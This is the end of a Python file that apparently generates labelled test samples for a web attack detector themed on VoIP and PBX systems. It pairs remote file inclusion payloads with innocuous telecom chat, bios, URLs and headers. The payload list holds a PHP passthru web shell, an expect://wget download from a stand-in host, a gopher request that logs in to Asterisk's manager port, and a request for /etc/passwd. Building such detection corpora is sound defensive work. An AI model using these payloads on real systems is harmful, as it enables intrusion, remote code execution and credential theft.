    "ftp://anonymous:a@evil.example/pub/s.php",
    "ftps://evil.example/s.txt",
    "smb://203.0.113.5/share/s.php",
    "\\\\203.0.113.5\\share\\s.php",
    "\\\\evil.example\\pbx\\shell.php",
    "//evil.example/share/s.php",
    "file://203.0.113.5/share/s.php",
    "data:text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "data://text/plain,<?php passthru($_GET['c']);?>",
    "expect://ls",
    "expect://wget http://203.0.113.5/x",
    "gopher://127.0.0.1:5038/_Action:%20Login%0d%0aUsername:%20admin%0d%0aSecret:%20amp111%0d%0a",
    "dict://127.0.0.1:5038/",
    "ldap://203.0.113.5/o=x",
    "jar:http://evil.example/x.jar!/",
    "tftp://evil.example/s.txt",
    "sftp://evil.example/s.txt",
    "ssh2.exec://evil.example:22/id",
    "ogg://evil.example/moh.ogg",
    "rar://evil.example/x.rar",
    "netdoc:///etc/passwd",
    "webdav://evil.example/s.txt",
]

RFI = [
    ("rfi", "url-with-ip-address", RFI_IP),
    ("rfi", "url-trailing-question-mark", RFI_QMARK),
    ("rfi", "include-parameter-url", RFI_PARAM),
    ("rfi", "off-domain-reference", RFI_OFFDOMAIN),
    ("rfi", "remote-protocol", RFI_PROTO),
]

FAMILIES = RCE + LFI + RFI


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    names = ["file", "ext", "phone_number", "recording", "display", "page", "host", "mac", "q"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@^\\"
    raw_places = ("form", "rs-param-name")
    unique = True
    path_forbids = "/?#"
    raw_body_forbids = "&"
    raw_body_pair = True
    xml_controls = "\n\t"


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (telecom engineers, call-centre supervisors and support staff in Slack,
# VoIP engineers' bios, colleague searches, links to vendor docs, profiles, recording and export file names)
CHAT = [
    "trunk to the carrier is flapping again, seeing 503 Service Unavailable on every INVITE since 09:40",
    "can someone check /etc/asterisk/pjsip.conf on pbx2? I think the transport block lost its external_media_address",
    "queue 500 has 14 calls waiting and only 3 agents logged in, can supervisors pull people off outbound?",
    "exten => _9NXXNXXXXXX,1,Dial(PJSIP/${EXTEN:1}@carrier) is the line that strips the 9, fyi",
    "ran `asterisk -rx \"pjsip show endpoints\"` and 1042 shows Unavailable, phone probably lost power",
    "CDR export for June is in the shared drive, cdr_2024-06.csv, billing wants it by Friday",
    "the 3CX update to v20 broke the Yealink template, provisioning URL returns 404 now",
    "SIP/2.0 486 Busy Here from the carrier when calling the Madrid office, anyone else?",
    "I'll do the FreePBX module upgrades tonight: fwconsole ma upgradeall && fwconsole reload",
    "VICIdial hopper is empty for campaign SALES2, lead list 1003 needs resetting",
    "ping from the SBC to the carrier is fine, 12ms, but RTP is one-way, smells like NAT",
    "tcpdump -i eth0 -n port 5060 -w /tmp/trace.pcap and then open it in sngrep or Wireshark",
    "voicemail to email stopped, /var/log/maillog says relay access denied",
    "who owns the number porting ticket for +44 20 7946 0000? the LOA came back rejected",
    "the USSD gateway timed out again for *100# balance checks, vendor says it's on their side",
    "moved the recordings to /var/spool/asterisk/monitor/2024/06 and the portal search works again",
    "avaya CM admin says the station 4411 COR is wrong, can't dial international",
    "please don't edit sip_additional.conf by hand, FreePBX overwrites it on every Apply Config",
    "webrtc softphone fails in Safari, console shows ICE failed, probably the TURN server",
    "CUCM cluster upgrade window is Saturday 22:00-02:00, expect phones to reboot twice",
    "Issabel box ran out of disk, /var/log/asterisk/full was 40GB, rotated it",
    "the SMS gateway returns 'ESME_RTHROTTLED' when we push more than 50 msg/s",
    "GOautodial agent screen is blank after login, cleared cache and it works",
    "dialplan question: is Goto(from-internal,${EXTEN},1) or Dial(Local/...) better here?",
    "fail2ban banned the whole office NAT again after someone mistyped their SIP password",
    "the Polycom phones pull 0004f2xxxxxx.cfg from the provisioning server over https now",
    "who can approve the new DID block 555-0100 through 555-0199 for the Denver team?",
    "bash -i was not the issue, the cron job for the CDR rollup was missing its PATH",
    "grep 'NOTICE' /var/log/asterisk/messages | grep 'failed to authenticate' | wc -l gives 3000 since midnight",
    "the carrier self-care portal wants a PDF invoice upload, not a screenshot",
    "SELECT calldate, src, dst, billsec FROM cdr WHERE dst LIKE '0044%' ORDER BY calldate DESC LIMIT 20",
    "anyone know why Cisco 8845 phones ignore the NTP server from the cnf.xml?",
    "Polycom says 'Error: Invalid config file' after I added the new feature keys, checking the XML",
    "FreePBX said 'Reload failed because retrieve_conf encountered an error: 1', fixed the permissions",
    "script to pull call recordings by date is in the repo under tools/recordings/fetch.sh",
    "can we whitelist 203.0.113.0/24 for the carrier signalling? they added a new POP",
    "customer says their calls drop at exactly 32 seconds, classic missing ACK",
    "SIP trace shows Via: SIP/2.0/UDP 10.0.0.5:5060;rport;branch=z9hG4bK776asdhds, the rport is fine",
    "the IVR greeting file must be 8kHz mono wav, ulaw works too",
    "the Elastix server is EOL, migration plan to FreePBX 16 is in the wiki",
    "supervisor dashboard shows average handle time 4:12, SLA is 80/20 for today",
    "powershell script for the Teams Direct Routing numbers is in the runbook, run it from the jump box",
    "wget the firmware from the vendor portal and drop it in the TFTP root, phones pick it up on reboot",
    "curl -u admin https://pbx.example.com/admin/api/api/gql is the GraphQL endpoint, docs in the wiki",
    "number porting for the Leeds office scheduled for 14 June, FOC date confirmed",
    "echo cancellation on the E1 card needs to be enabled, users hear their own voice",
    "the include file for the custom contexts is extensions_custom.conf, that's where our overrides go",
    "which template do we use for the Yealink T54W? the one with the BLF keys",
    "Avaya Aura SMGR password expired, who has the break-glass account?",
    "CDR billing report for the Paris trunk shows negative durations, timezone bug?",
]

BIOS_AND_MORE = [
    "VoIP engineer, 12 years of Asterisk and Kamailio, happy to debug your SIP traces",
    "Call-centre supervisor for the EMEA support queue, VICIdial and GOautodial admin",
    "Telecom network engineer: SIP trunks, SBCs, number porting, and too many Wireshark captures",
    "UC admin for Cisco CUCM and Webex Calling, based in Austin",
    "I look after the FreePBX cluster and the call-recording portal, ping me for access",
    "Support agent on the carrier self-care team, I handle SIM swaps and porting requests",
    "Billing analyst, CDRs, rating tables and monthly invoice runs",
    "SMS and USSD platform developer, Kannel and SMPP",
    "WebRTC developer working on the browser softphone, JsSIP and SIP.js",
    "Avaya to Teams migration lead, 2023-2024",
]

SEARCHES = [
    "extension 1001", "ext 4411", "voip team", "call centre", "asterisk", "freepbx admin", "vicidial",
    "queue 500 supervisor", "sip trunk", "number porting", "billing cdr", "recording portal", "3cx", "cisco cucm",
    "avaya", "sms gateway", "ussd", "webrtc", "kamailio", "network ops", "noc", "support tier 2", "Denver team",
    "O'Connor", "Jean-Luc", "Müller", "tftp", "provisioning", "polycom", "yealink", "eng / voip",
    "on-call this week", "carrier relations", "helpdesk", "head of telephony", "dialplan", "ivr",
]

URLS = [
    "https://wiki.asterisk.org/wiki/display/AST/Configuring+res_pjsip",
    "https://docs.asterisk.org/Configuration/Dialplan/",
    "https://wiki.freepbx.org/display/FPG/Endpoint+Manager",
    "https://www.3cx.com/docs/manual/sip-trunks/",
    "https://www.vicidial.org/docs/",
    "https://support.yealink.com/en/portal/docList?archiveType=document",
    "https://www.cisco.com/c/en/us/support/unified-communications/unified-communications-manager-callmanager/",
    "https://www.kamailio.org/docs/modules/stable/modules/dispatcher.html",
    "https://datatracker.ietf.org/doc/html/rfc3261#section-21.5.4",
    "https://jira.example.com/browse/VOIP-1234?focusedCommentId=5678",
    "https://github.com/asterisk/asterisk/blob/master/configs/samples/pjsip.conf.sample",
    "https://sngrep.example.org/docs/usage.html?filter=INVITE",
    "https://community.freepbx.org/t/trunk-registration-fails-after-upgrade/91234",
    "https://status.carrier.example/incidents/2024-06-01",
]

PROSE = [
    "Please upload the signed Letter of Authorisation and the latest bill for each number you want to port.",
    "The call recording for ticket 58812 was at 2024-06-01 10:12; the file name is in the CDR's recordingfile.",
    "Our dial plan sends 999 and 112 straight to the emergency trunk; do not change the route order.",
    "To reset your voicemail PIN, dial *97 from your desk phone and follow the prompts.",
    "The SIP trunk registers to sip.carrier.example on port 5060 over UDP; RTP uses 10000-20000.",
    "Agents must log in to the queue with *45 before taking calls; supervisors can monitor with ChanSpy.",
    "Outage report: between 09:40 and 10:25 UTC inbound calls failed with 503 due to a carrier routing issue.",
    "The provisioning server hands out files named after the phone's MAC address, e.g. 0004f2aabbcc.cfg.",
    "Please include the Call-ID and the SIP response code when you open a ticket about a failed call.",
    "The monthly CDR export includes calldate, src, dst, duration, billsec and disposition.",
    "Firmware for the T46U is version 108.86.0.45; the file is T46U-108.86.0.45.rom.",
    "The softphone needs microphone permission in your browser; Chrome, Edge and Firefox are supported.",
    "The PowerShell script for Teams number assignment runs nightly from the automation server.",
    "Our USSD menu code *123# shows your balance and your data allowance.",
    "The weekly report shows abandoned calls over 30 seconds; the target is under 5 percent.",
    "Use the path /recordings/2024/06/ in the portal search to narrow down the month.",
    "The include directive in extensions.conf pulls in extensions_custom.conf for local overrides.",
    "Billing will credit the dropped-call minutes once the carrier confirms the fault.",
    "SMS delivery reports arrive as DLRs with status DELIVRD, UNDELIV or EXPIRED.",
    "Cisco phones download SEP<MAC>.cnf.xml over TFTP from the CUCM server at boot.",
]

PROFILES = [
    ("Siobhán O'Connor", "Harcourt St 12, Dublin"),
    ("Callcentre Solutions GmbH", "Rufnummernweg 5, Köln"),
    ("Asterisk Consulting Ltd", "Exchange Rd 3, Bristol"),
    ("Trunk & Line Telecom", "Carrier Park 1, Reading"),
    ("Jean-Luc Dubois", "Rue de la Porte 9, Lyon"),
    ("Queue Masters Inc", "Dial Ave 500, Denver"),
    ("VoIP Shell Co", "Echo Lane 4, Cork"),
    ("Port & Number Services", "Transfer St 8, Glasgow"),
    ("Priya Raman", "Tower B, Cyber City, Gurugram"),
    ("Recording Studio 1001", "Monitor Rd 2, Nashville"),
    ("Path Finder Networks", "Route 66, Tulsa"),
    ("Include Media", "Template Sq 3, Oslo"),
    ("Curl & Wave Salon", "Main St 44, Boise"),
    ("Ping Pong Club", "Net Rd 5, Taipei"),
    ("Kamal Whoami", "Hill Rd 7, Mumbai"),
    ("Nguyễn Văn An", "Lê Lợi 15, Hồ Chí Minh"),
]

UPLOAD_NAMES = [
    "out-1001-5551234-20240601-101010-1717236610.12.wav", "q-500-20240601-0912.wav", "cdr_2024-06.csv",
    "billing-report-june.xlsx", "msg0000.wav", "greeting-ivr-main.wav", "SEP001122334455.cnf.xml",
    "0004f2aabbcc.cfg", "T46U-108.86.0.45.rom", "sip-trace-call-58812.pcap", "LOA-porting-Leeds.pdf",
    "freepbx-backup-20240601.tar.gz", "extensions_custom.conf", "queue-stats-week23.pdf", "moh-jazz.mp3",
    "dialplan-review.docx", "3CXPhoneSystem-license.pdf", "vicidial-leads-list-1003.csv", "ussd-menu-spec.pdf",
    "number-port-request (signed).pdf", "avaya-station-export.csv",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
                   "Safari/537.36"),
    ("User-Agent", "Yealink SIP-T46U 108.86.0.45 00:15:65:aa:bb:cc"),
    ("User-Agent", "PolycomVVX-VVX_450-UA/6.4.3.5018"),
    ("User-Agent", "Cisco-CP8845/14.2.1"),
    ("User-Agent", "3CXPhone for Windows 20.0.1"),
    ("User-Agent", "curl/8.7.1"),
    ("User-Agent", "Wget/1.21.4"),
    ("Referer", "https://pbx.example.com/admin/config.php?display=extensions&extdisplay=1001"),
    ("Referer", "https://dialer.example.com/vicidial/admin.php?ADD=31&campaign_id=SALES2"),
    ("Referer", "https://portal.example.com/recordings?date=2024-06-01&ext=1001"),
    ("Referer", "https://wiki.asterisk.org/wiki/display/AST/Dialplan"),
    ("X-Api-Version", "2024-06-01"),
    ("Accept-Language", "en-GB,en;q=0.9,fr;q=0.7"),
    ("Cookie", "session=abc123; last_ext=1001; queue=500"),
    ("Cookie", "session=abc123; theme=dark; tz=Europe%2FLondon"),
    ("X-Forwarded-For", "198.51.100.23"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT + BIOS_AND_MORE, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
